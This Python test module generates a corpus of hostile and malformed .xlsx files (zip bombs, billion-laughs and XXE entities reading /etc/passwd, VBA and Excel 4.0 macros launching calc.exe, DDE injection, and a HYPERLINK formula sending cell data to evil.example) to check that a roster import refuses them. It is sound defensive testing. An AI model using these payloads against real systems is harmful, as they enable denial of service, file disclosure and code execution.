"""The bad-input corpus of issue 8 line 5: files a roster upload must survive, each made by code.

Every entry of CORPUS is a BadFile: a name (the test id), a generator that writes the file into a
folder, and what must happen when it goes through the real import (tests/security/test_bad_files.py):
either the file is refused with a Chinese message containing `refusal`, or it is read and its rows
are rejected with an error containing `rejection` (or read right: `created` rows written).

Generated files stay small on disk (a zip bomb is a few hundred kilobytes); nothing binary is kept
in the repository.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from xml.sax.saxutils import escape

from bench.roster_file import HEADERS, roster_rows, write_roster
from tests.conftest import SAMPLE_DATE

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SHEET = "xl/worksheets/sheet1.xml"
SHARED = "xl/sharedStrings.xml"
HUILONG_VILLAGE = ("汇龙镇", "亚光村")  # town_staff's town (tests/conftest.py)
NANYANG_VILLAGE = ("南阳镇", "启兴村")  # the outsider's town
EXCEL_1900, EXCEL_1904 = date(1899, 12, 30), date(1904, 1, 1)


@dataclass(frozen=True)
class BadFile:
    name: str
    make: Callable[[Path], Path]
    refusal: str = ""  # the file is refused: a fragment of the message
    rejection: str = ""  # the file is read, its rows rejected: a fragment of a row's error message
    created: int = 0  # children the import writes (files that are odd but must be read right)
    warning: str = ""  # a fragment of the warning shown with the preview
    user: str = "admin_user"  # the conftest fixture that imports it
    national: bool = True  # the national export reader must refuse it too (when `refusal`)

    def __str__(self) -> str:
        return self.name


# --- building blocks -------------------------------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "{overrides}</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
SHEET_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass
class Sheet:
    name: str
    data: str  # the <sheetData> content
    state: str = "visible"
    dimension: str = ""
    merges: tuple[str, ...] = ()


def column_letters(index: int) -> str:
    """0 → A, 25 → Z, 26 → AA, 16383 → XFD."""
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def cell_xml(ref: str, value: object, style: int = 0) -> str:
    styled = f' s="{style}"' if style else ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return f'<c r="{ref}"{styled}><v>{value}</v></c>'
    text = escape(str(value))
    return f'<c r="{ref}"{styled} t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def row_xml(line: int, values: list[object], styles: dict[int, int] | None = None) -> str:
    cells = "".join(
        cell_xml(f"{column_letters(col)}{line}", value, (styles or {}).get(col, 0))
        for col, value in enumerate(values)
        if value not in ("", None)
    )
    return f'<row r="{line}">{cells}</row>'


def roster_sheet_data(rows: list[dict[str, object]], *, first_line: int = 1, date_style: int = 0) -> str:
    """The template's header and `rows` as <sheetData> content; dates as serial numbers."""
    styles = {col: date_style for col, header in enumerate(HEADERS) if header == "出生日期"} if date_style else {}
    lines = [row_xml(first_line, list(HEADERS))]
    for offset, row in enumerate(rows, start=1):
        lines.append(row_xml(first_line + offset, [row.get(header, "") for header in HEADERS], styles))
    return "".join(lines)


STYLES = (
    '<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="' + MAIN_NS + '">'
    '<numFmts count="1"><numFmt numFmtId="164" formatCode="yyyy-mm-dd"/></numFmts>'
    '<fonts count="1"><font><sz val="11"/><name val="宋体"/></font></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
    '<cellXfs count="3"><xf numFmtId="0"/><xf numFmtId="164" applyNumberFormat="1"/>'
    '<xf numFmtId="0" applyNumberFormat="1"/></cellXfs></styleSheet>'
)
DATE_STYLE, GENERAL_STYLE = 1, 2


def workbook_bytes(
    sheets: list[Sheet],
    *,
    workbook_pr: str = "",
    extra: dict[str, bytes | str] | None = None,
    extra_types: str = "",
    main_type: str = "",
) -> bytes:
    """A minimal, well-formed .xlsx written by hand, so that every part can be made wrong on purpose."""
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{n}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for n in range(1, len(sheets) + 1)
    )
    types = CONTENT_TYPES.format(overrides=overrides + extra_types)
    if main_type:
        types = types.replace("sheet.main+xml", main_type)
    listed = "".join(
        f'<sheet name="{escape(sheet.name)}" sheetId="{n}" state="{sheet.state}" r:id="rId{n}"/>'
        for n, sheet in enumerate(sheets, start=1)
    )
    rels = "".join(
        f'<Relationship Id="rId{n}" Type="{SHEET_TYPE}" Target="worksheets/sheet{n}.xml"/>'
        for n in range(1, len(sheets) + 1)
    )
    rels += f'<Relationship Id="rIdS" Type="{SHEET_TYPE[:-9]}styles" Target="styles.xml"/>'
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": types,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">'
        f"{workbook_pr}<sheets>{listed}</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>',
        "xl/styles.xml": STYLES,
    }
    for n, sheet in enumerate(sheets, start=1):
        dimension = f'<dimension ref="{sheet.dimension}"/>' if sheet.dimension else ""
        merges = "".join(f'<mergeCell ref="{ref}"/>' for ref in sheet.merges)
        merged = f'<mergeCells count="{len(sheet.merges)}">{merges}</mergeCells>' if merges else ""
        parts[f"xl/worksheets/sheet{n}.xml"] = (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">'
            f"{dimension}<sheetData>{sheet.data}</sheetData>{merged}</worksheet>"
        )
    parts.update(extra or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content.encode() if isinstance(content, str) else content)
    return buffer.getvalue()


def good_rows(n: int = 2, *, place: tuple[str, str] = HUILONG_VILLAGE, seed: int = 8) -> list[dict[str, object]]:
    """Realistic rows (bench/roster_file.py) moved into one village; each would import cleanly."""
    rows = list(roster_rows(n, seed=seed, on=SAMPLE_DATE))
    for row in rows:
        row["镇（街道、园区）"], row["村（社区）"] = place
    return rows


def roster_file(folder: Path, name: str, rows: list[dict[str, object]]) -> Path:
    """A genuine roster written as the template (XlsxWriter, inline strings)."""
    return write_roster(folder / name, rows)


def shared_strings_roster(folder: Path, name: str, rows: list[dict[str, object]]) -> Path:
    """A roster whose texts live in xl/sharedStrings.xml (as Excel itself writes them)."""
    strings: dict[str, int] = {}
    lines = []
    for line, values in enumerate([list(HEADERS), *([row.get(h, "") for h in HEADERS] for row in rows)], start=1):
        cells = "".join(
            f'<c r="{column_letters(col)}{line}" t="s"><v>{strings.setdefault(str(value), len(strings))}</v></c>'
            for col, value in enumerate(values)
            if value not in ("", None)
        )
        lines.append(f'<row r="{line}">{cells}</row>')
    items = "".join(f"<si><t>{escape(text)}</t></si>" for text in strings)
    shared = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN_NS}" count="{len(strings)}">{items}</sst>'
    content = workbook_bytes([Sheet("花名册", "".join(lines))], extra={SHARED: shared})
    return write(folder, name, content)


def rewritten(source: Path, target: Path, changes: dict[str, Callable[[bytes], bytes]]) -> Path:
    """Copy an .xlsx, passing the named members through their change."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            data = old.read(item.filename)
            new.writestr(item.filename, changes[item.filename](data) if item.filename in changes else data)
    return target


def with_doctype(doctype: bytes) -> Callable[[bytes], bytes]:
    """Put a DTD after the XML declaration, and use its entity in the first text."""

    def change(xml: bytes) -> bytes:
        declaration, rest = xml.split(b"?>", 1)
        text_start = rest.index(b">", rest.index(b"<t")) + 1
        return declaration + b"?>" + doctype + rest[:text_start] + b"&boom;" + rest[text_start:]

    return change


def write(folder: Path, name: str, content: bytes) -> Path:
    path = folder / name
    path.write_bytes(content)
    return path


# --- not a workbook at all -------------------------------------------------------------------------


def empty_file(folder: Path) -> Path:
    return write(folder, "空文件.xlsx", b"")


def csv_renamed(folder: Path) -> Path:
    lines = ["儿童姓名,公民身份号码,镇（街道、园区）", "张三,320681201504029779,汇龙镇"]
    return write(folder, "花名册.xlsx", "\n".join(lines).encode("utf-8-sig"))


def html_renamed(folder: Path) -> Path:
    page = (
        "<!DOCTYPE html><html><head><meta charset='utf-8'></head><body><table>"
        "<tr><td>儿童姓名</td><td>公民身份号码</td></tr><tr><td>张三</td><td>320681201504029779</td></tr>"
        "</table><script>alert(1)</script></body></html>"
    )
    return write(folder, "花名册.xlsx", page.encode())


def compound_file(stream_names: list[str]) -> bytes:
    """A small OLE2 compound file (what .xls and encrypted Office files are) with the named streams:
    header, one FAT sector, one directory sector (root + streams), nothing in the streams."""
    sector = 512
    header = bytearray(sector)
    header[:8] = OLE_MAGIC
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)  # minor, major, byte order, sector shifts
    struct.pack_into("<L", header, 44, 1)  # FAT sectors
    struct.pack_into("<L", header, 48, 1)  # first directory sector
    struct.pack_into("<L", header, 56, 4096)  # mini stream cutoff
    struct.pack_into("<LLLL", header, 60, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)  # no mini FAT, no DIFAT
    struct.pack_into("<L", header, 76, 0)  # DIFAT[0] → the FAT is sector 0
    header[80:sector] = b"\xff" * (sector - 80)
    fat = struct.pack("<LL", 0xFFFFFFFD, 0xFFFFFFFE) + b"\xff\xff\xff\xff" * 126
    entries = b""
    for index, name in enumerate(["Root Entry", *stream_names]):
        encoded = (name + "\0").encode("utf-16-le")
        entry = bytearray(128)
        entry[: len(encoded)] = encoded
        struct.pack_into("<HBB", entry, 64, len(encoded), 5 if index == 0 else 2, 1)
        struct.pack_into("<LLL", entry, 68, 0xFFFFFFFF, index + 1 if index else 0xFFFFFFFF, 1 if index == 0 else 0)
        if index == len(stream_names):
            struct.pack_into("<L", entry, 72, 0xFFFFFFFF)
        struct.pack_into("<LL", entry, 116, 0xFFFFFFFE, 0)
        entries += bytes(entry)
    directory = entries.ljust(sector, b"\0")
    return bytes(header) + fat + directory


def xls_renamed(folder: Path) -> Path:
    return write(folder, "旧版花名册.xlsx", compound_file(["Workbook", "\x05SummaryInformation"]))


def encrypted_workbook(folder: Path) -> Path:
    """An .xlsx saved with an open password: an OLE2 file holding EncryptionInfo and EncryptedPackage."""
    return write(folder, "加密花名册.xlsx", compound_file(["EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"]))


def docx_renamed(folder: Path) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return write(folder, "花名册.xlsx", buffer.getvalue())


def truncated_zip(folder: Path) -> Path:
    whole = roster_file(folder, "whole.xlsx", good_rows(20)).read_bytes()
    return write(folder, "截断.xlsx", whole[: len(whole) // 2])


def zip_without_directory(folder: Path) -> Path:
    """Cut just before the central directory: every member is there, the index is not."""
    whole = roster_file(folder, "whole.xlsx", good_rows(20)).read_bytes()
    return write(folder, "缺目录.xlsx", whole[: whole.rfind(b"PK\x01\x02")])


def encrypted_zip_member(folder: Path) -> Path:
    """A member flagged as encrypted (zip's own password)."""
    data = bytearray(roster_file(folder, "whole.xlsx", good_rows(2)).read_bytes())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = data.find(signature)
        while position != -1:
            flags = struct.unpack_from("<H", data, position + flag_offset)[0]
            struct.pack_into("<H", data, position + flag_offset, flags | 0x1)
            position = data.find(signature, position + 4)
    return write(folder, "zip密码.xlsx", bytes(data))


# --- zip bombs -------------------------------------------------------------------------------------


def _set_sizes(data: bytearray, name: bytes, *, uncompressed: int) -> None:
    """Overwrite the uncompressed size of member `name` in its local header and the directory."""
    for signature, size_offset, name_offset in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        position = data.find(signature)
        while position != -1:
            if data[position + name_offset : position + name_offset + len(name)] == name:
                struct.pack_into("<L", data, position + size_offset, uncompressed)
            position = data.find(signature, position + 4)


def bomb_declared(folder: Path) -> Path:
    """The directory declares a sheet of 4 GB (what a bomb announces before anyone inflates it)."""
    data = bytearray(roster_file(folder, "whole.xlsx", good_rows(2)).read_bytes())
    _set_sizes(data, SHEET.encode(), uncompressed=0xFFFFFFF0)
    return write(folder, "声明4GB.xlsx", bytes(data))


def spaces_deflated(megabytes: int, prefix: bytes = b"") -> bytes:
    """A raw deflate stream of `prefix` then `megabytes` MB of spaces, made in milliseconds: one
    flushed 1 MB segment (independent of what precedes it) repeated, then a final empty block."""
    head = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = head.compress(prefix) + head.flush(zlib.Z_FULL_FLUSH) if prefix else b""
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = block.compress(b" " * (1 << 20)) + block.flush(zlib.Z_FULL_FLUSH)
    return start + segment * megabytes + b"\x03\x00"


def _members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {item.filename: archive.read(item.filename) for item in archive.infolist()}


def bomb_real(folder: Path) -> Path:
    """A sheet member that really inflates to 1 GB of spaces (about 1 MB on disk), sizes told honestly.
    (Its CRC is not computed: the file must be refused long before anyone could check it.)"""
    members = _members(roster_file(folder, "whole.xlsx", good_rows(2)))
    return write(folder, "1GB炸弹.xlsx", _raw_zip(members, {SHEET: (spaces_deflated(1024), 1 << 30, 0)}))


def _raw_zip(members: dict[str, bytes | None], raw: dict[str, tuple[bytes, int, int]]) -> bytes:
    """A zip built byte by byte: `raw` members carry their own deflate stream, size and CRC."""
    out, directory = io.BytesIO(), io.BytesIO()
    for name, data in members.items():
        encoded = name.encode()
        if name in raw:
            deflated, size, crc = raw[name]
        else:
            crc, size = zlib.crc32(data), len(data)
            compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
            deflated = compressor.compress(data) + compressor.flush()
        offset = out.tell()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(deflated), size, len(encoded), 0))
        out.write(encoded + deflated)
        header = (b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(deflated), size, len(encoded), 0, 0, 0, 0, 0, offset)
        directory.write(struct.pack("<4s6H3L5H2L", *header) + encoded)
    start, listing = out.tell(), directory.getvalue()
    count = len(members)
    out.write(listing + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(listing), start, 0))
    return out.getvalue()


def bomb_lying(folder: Path) -> Path:
    """The directory says the sheet is 2 KB; it inflates to 300 MB."""
    members = _members(roster_file(folder, "whole.xlsx", good_rows(2)))
    sheet = members[SHEET]
    raw = {SHEET: (spaces_deflated(300, prefix=sheet), 2048, zlib.crc32(sheet))}
    return write(folder, "谎报大小.xlsx", _raw_zip(members, raw))


# --- XML tricks ------------------------------------------------------------------------------------

LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, b"".join(b"&lol%d;" % (n - 1) for _ in range(10))) for n in range(2, 10))
    + b'<!ENTITY boom "&lol9;">]>'
)
EXTERNAL = b'<!DOCTYPE roster [<!ENTITY boom SYSTEM "file:///etc/passwd">]>'


def laughs_in_sheet(folder: Path) -> Path:
    return _inline_roster_with(folder, "实体膨胀-工作表.xlsx", SHEET, LAUGHS)


def laughs_in_shared_strings(folder: Path) -> Path:
    base = shared_strings_roster(folder, "whole.xlsx", good_rows(2))
    return rewritten(base, folder / "实体膨胀-共享字符串.xlsx", {SHARED: with_doctype(LAUGHS)})


def external_entity_in_sheet(folder: Path) -> Path:
    return _inline_roster_with(folder, "外部实体-工作表.xlsx", SHEET, EXTERNAL)


def external_entity_in_shared_strings(folder: Path) -> Path:
    base = shared_strings_roster(folder, "whole.xlsx", good_rows(2))
    return rewritten(base, folder / "外部实体-共享字符串.xlsx", {SHARED: with_doctype(EXTERNAL)})


def _inline_roster_with(folder: Path, name: str, member: str, doctype: bytes) -> Path:
    base = write(folder, "inline.xlsx", workbook_bytes([Sheet("花名册", roster_sheet_data(good_rows(2)))]))
    return rewritten(base, folder / name, {member: with_doctype(doctype)})


def doctype_in_utf16(folder: Path) -> Path:
    """The same DTD, in a sheet encoded as UTF-16 (a byte search for "<!DOCTYPE" would miss it)."""
    base = write(folder, "inline.xlsx", workbook_bytes([Sheet("花名册", roster_sheet_data(good_rows(2)))]))

    def to_utf16(xml: bytes) -> bytes:
        text = with_doctype(EXTERNAL)(xml).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
        return b"\xff\xfe" + text.encode("utf-16-le")

    return rewritten(base, folder / "UTF16实体.xlsx", {SHEET: to_utf16})


# --- active content --------------------------------------------------------------------------------

MACRO_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def xlsm_with_vba(folder: Path) -> Path:
    """A macro-enabled workbook (.xlsm renamed .xlsx) carrying a VBA project (an auto-open macro)."""
    vba = compound_file(["VBA", "PROJECT", "PROJECTwm"]) + b'Sub Auto_Open()\r\nShell "calc.exe"\r\nEnd Sub'
    content = workbook_bytes(
        [Sheet("花名册", roster_sheet_data(good_rows(2)))],
        extra={"xl/vbaProject.bin": vba},
        extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        main_type="sheet.macroEnabled.main+xml",
    )
    return write(folder, "带宏.xlsx", content)


def excel4_macro_sheet(folder: Path) -> Path:
    """An Excel 4.0 (XLM) macro sheet: formulas such as =EXEC("calc") that run on open."""
    macro = (
        f'<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet xmlns="{MAIN_NS}" '
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
        '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row>'
        "</sheetData></xm:macrosheet>"
    )
    content = workbook_bytes(
        [Sheet("花名册", roster_sheet_data(good_rows(2)))],
        extra={"xl/macrosheets/sheet1.xml": macro},
        extra_types='<Override PartName="/xl/macrosheets/sheet1.xml" '
        'ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
    )
    return write(folder, "XLM宏表.xlsx", content)


# --- sizes -----------------------------------------------------------------------------------------

LAST_ROW, LAST_COLUMN = 1_048_576, 16_384


def million_rows_declared(folder: Path) -> Path:
    data = roster_sheet_data(good_rows(2)) + row_xml(LAST_ROW, ["", "", "", "末行"])
    sheet = Sheet("花名册", data, dimension=f"A1:AT{LAST_ROW}")
    return write(folder, "百万行-声明.xlsx", workbook_bytes([sheet]))


def million_rows_undeclared(folder: Path) -> Path:
    """No <dimension>, just a cell on the last row Excel has: a dense reader would make 48 million cells."""
    data = roster_sheet_data(good_rows(2)) + row_xml(LAST_ROW, ["", "", "", "末行"])
    return write(folder, "百万行-未声明.xlsx", workbook_bytes([Sheet("花名册", data)]))


def hidden_sheet_of_a_million_rows(folder: Path) -> Path:
    """The visible roster is fine; a hidden first sheet reaches row 1,048,576."""
    hidden = Sheet("Sheet0", row_xml(1, ["x"]) + row_xml(LAST_ROW, ["y"]), state="veryHidden")
    visible = Sheet("花名册", roster_sheet_data(good_rows(2)))
    return write(folder, "隐藏百万行.xlsx", workbook_bytes([hidden, visible]))


def columns_16384(folder: Path) -> Path:
    """A value in column XFD, the last one Excel has, on a roster of 3,000 rows."""
    data = roster_sheet_data(good_rows(2))
    data += f'<row r="3000">{cell_xml("A3000", "x")}{cell_xml(f"{column_letters(LAST_COLUMN - 1)}3000", "x")}</row>'
    return write(folder, "16384列.xlsx", workbook_bytes([Sheet("花名册", data)]))


def columns_lower_case(folder: Path) -> Path:
    """The same far cell written r="xfd3000": readers take lower-case references too."""
    data = roster_sheet_data(good_rows(2)) + f'<row r="3000">{cell_xml("A3000", "x")}{cell_xml("xfd3000", "x")}</row>'
    return write(folder, "16384列-小写.xlsx", workbook_bytes([Sheet("花名册", data)]))


def columns_without_references(folder: Path) -> Path:
    """16,384 cells with no r="" attribute (readers place them one after another) and a far last row."""
    wide = '<row r="1">' + "<c><v>1</v></c>" * LAST_COLUMN + "</row>"
    data = wide + roster_sheet_data(good_rows(2), first_line=2) + row_xml(3000, ["末行"])
    return write(folder, "16384列-无引用.xlsx", workbook_bytes([Sheet("花名册", data)]))


# --- cells -----------------------------------------------------------------------------------------


def long_cells(folder: Path) -> Path:
    """32,767 characters (Excel's most) in a child's name and in an address."""
    rows = good_rows(2)
    rows[0]["儿童姓名"] = "张" * 32_767
    rows[1]["户籍地址"] = "江苏省启东市汇龙镇" + "很长的地址" * 6_552
    return roster_file(folder, "超长单元格.xlsx", rows)


def control_characters(folder: Path) -> Path:
    """NUL, BEL, ESC and a right-to-left override in names and addresses (written as _x0000_ escapes)."""
    rows = good_rows(3)
    rows[0]["儿童姓名"] = "张\x00三"
    rows[1]["现居住地址"] = "汇龙镇\x07亚光村\x1b[2J"
    rows[2]["父亲姓名"] = "李\u202e四"
    return roster_file(folder, "控制字符.xlsx", rows)


def formulas_and_dde(folder: Path) -> Path:
    """A DDE payload typed as text in a name, and real formula cells (=HYPERLINK, =cmd|...)."""
    rows = good_rows(3)
    rows[0]["儿童姓名"] = "=cmd|'/c calc'!A1"
    rows[1]["父亲姓名"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    data = roster_sheet_data(rows)
    ref = f"{column_letters(HEADERS.index('儿童姓名'))}4"
    formula = f'<c r="{ref}" t="str"><f>HYPERLINK("http://evil.example/?"&amp;G2,"王五")</f><v>王五</v></c>'
    data = re.sub(f'<c r="{ref}".*?</c>', formula, data, count=1)
    return write(folder, "公式与DDE.xlsx", workbook_bytes([Sheet("花名册", data)]))


def _dated_rows() -> list[dict[str, object]]:
    rows = good_rows(2, seed=9)
    for row in rows:
        row["出生日期"] = date.fromisoformat(str(row["出生日期"]))
    return rows


def _serial_sheet(rows: list[dict[str, object]], epoch: date, style: int) -> str:
    serial_rows = [{**row, "出生日期": (row["出生日期"] - epoch).days} for row in rows]
    return roster_sheet_data(serial_rows, date_style=style)


def dates_1900(folder: Path) -> Path:
    sheet = Sheet("花名册", _serial_sheet(_dated_rows(), EXCEL_1900, DATE_STYLE))
    return write(folder, "1900日期.xlsx", workbook_bytes([sheet]))


def dates_1904(folder: Path) -> Path:
    """A workbook in the 1904 date system (Excel for Mac): the same dates are 1,462 smaller numbers."""
    sheet = Sheet("花名册", _serial_sheet(_dated_rows(), EXCEL_1904, DATE_STYLE))
    return write(folder, "1904日期.xlsx", workbook_bytes([sheet], workbook_pr='<workbookPr date1904="1"/>'))


def dates_1904_as_numbers(folder: Path) -> Path:
    """1904 serial numbers in cells without a date format: read in the 1900 system they move 4 years."""
    sheet = Sheet("花名册", _serial_sheet(_dated_rows(), EXCEL_1904, GENERAL_STYLE))
    return write(folder, "1904数字日期.xlsx", workbook_bytes([sheet], workbook_pr='<workbookPr date1904="true"/>'))


# --- layout ----------------------------------------------------------------------------------------


def hidden_roster_sheet(folder: Path) -> Path:
    """A hidden sheet holding a second roster the clerk cannot see, before the visible one."""
    hidden = Sheet("旧数据", roster_sheet_data(good_rows(3, seed=21)), state="hidden")
    visible = Sheet("花名册", roster_sheet_data(good_rows(1, seed=22)))
    return write(folder, "隐藏工作表.xlsx", workbook_bytes([hidden, visible]))


def merged_header(folder: Path) -> Path:
    """A merged title, and a two-line header whose merged groups hide the required column names."""
    title = row_xml(1, ["启东市农村留守儿童花名册"])
    groups = ["序号", "地址", "", "儿童信息", "", "", "", "", "", "父亲信息"]
    names = ["", "镇", "村", "姓名", "性别", "民族", "身份证", "出生日期", "户籍"]
    rows = good_rows(2)
    data = title + row_xml(2, groups) + row_xml(3, names)
    data += "".join(row_xml(4 + n, [row.get(header, "") for header in HEADERS]) for n, row in enumerate(rows))
    sheet = Sheet("花名册", data, merges=("A1:AT1", "B2:C2", "D2:I2", "A2:A3"))
    return write(folder, "合并表头.xlsx", workbook_bytes([sheet]))


def merged_town_and_village(folder: Path) -> Path:
    """A merged title above the header, and 镇 / 村 merged down over the village's children, as
    clerks lay out a roster by hand: a reader finds the value in the first row only."""
    rows = good_rows(3)
    for row in rows[1:]:
        row["镇（街道、园区）"] = row["村（社区）"] = ""
    data = row_xml(1, ["启东市汇龙镇农村留守儿童花名册"]) + roster_sheet_data(rows, first_line=2)
    sheet = Sheet("花名册", data, merges=("A1:AT1", "B3:B5", "C3:C5"))
    return write(folder, "合并镇村.xlsx", workbook_bytes([sheet]))


def another_county(folder: Path) -> Path:
    """Villages of 海门区 (the next county): not ours."""
    return roster_file(folder, "外县.xlsx", good_rows(2, place=("三厂街道", "大洪村")))


def another_town_for_town_staff(folder: Path) -> Path:
    """汇龙镇's clerk imports rows of 南阳镇."""
    return roster_file(folder, "外镇.xlsx", good_rows(2, place=NANYANG_VILLAGE))


CORPUS: list[BadFile] = [
    BadFile("empty", empty_file, refusal="文件是空的"),
    BadFile("csv-renamed", csv_renamed, refusal="CSV"),
    BadFile("html-renamed", html_renamed, refusal="网页（HTML）"),
    BadFile("xls-ole2-renamed", xls_renamed, refusal="旧版 Excel（.xls）"),
    BadFile("encrypted-workbook", encrypted_workbook, refusal="已加密"),
    BadFile("docx-renamed", docx_renamed, refusal="不是 Excel 工作簿"),
    BadFile("truncated-zip", truncated_zip, refusal="损坏"),
    BadFile("zip-without-directory", zip_without_directory, refusal="损坏"),
    BadFile("encrypted-zip-member", encrypted_zip_member, refusal="已加密"),
    BadFile("zip-bomb-declared-4gb", bomb_declared, refusal="压缩炸弹"),
    BadFile("zip-bomb-real-1gb", bomb_real, refusal="压缩炸弹"),
    BadFile("zip-bomb-lying-directory", bomb_lying, refusal="压缩炸弹"),
    BadFile("billion-laughs-in-sheet", laughs_in_sheet, refusal="DTD"),
    BadFile("billion-laughs-in-shared-strings", laughs_in_shared_strings, refusal="DTD"),
    BadFile("xxe-in-sheet", external_entity_in_sheet, refusal="DTD"),
    BadFile("xxe-in-shared-strings", external_entity_in_shared_strings, refusal="DTD"),
    BadFile("xxe-in-utf16-sheet", doctype_in_utf16, refusal="编码"),
    BadFile("xlsm-with-vba", xlsm_with_vba, refusal="宏"),
    BadFile("excel4-macro-sheet", excel4_macro_sheet, refusal="宏"),
    BadFile("1048576-rows-declared", million_rows_declared, refusal="行的上限"),
    BadFile("1048576-rows-undeclared", million_rows_undeclared, refusal="行的上限"),
    BadFile("hidden-sheet-of-1048576-rows", hidden_sheet_of_a_million_rows, refusal="行的上限"),
    BadFile("16384-columns", columns_16384, refusal="列"),
    BadFile("16384-columns-lower-case-reference", columns_lower_case, refusal="列"),
    BadFile("16384-columns-without-references", columns_without_references, refusal="列"),
    BadFile("32767-character-cells", long_cells, rejection="过长"),
    BadFile("control-characters", control_characters, rejection="控制字符"),
    BadFile("formulas-and-dde", formulas_and_dde, rejection="公式", created=1),
    BadFile("dates-1900", dates_1900, created=2),
    BadFile("dates-1904", dates_1904, created=2),
    BadFile("dates-1904-as-numbers", dates_1904_as_numbers, created=2),
    BadFile("hidden-roster-sheet", hidden_roster_sheet, created=1, warning="隐藏的工作表未导入：旧数据"),
    BadFile("merged-header-cells", merged_header, refusal="表头", national=False),
    BadFile("merged-title-and-town-cells", merged_town_and_village, created=3),
    BadFile("villages-of-another-county", another_county, rejection="不是启东市的镇"),
    BadFile(
        "another-town-for-town-staff", another_town_for_town_staff, rejection="不在您负责的区域", user="town_staff"
    ),
]
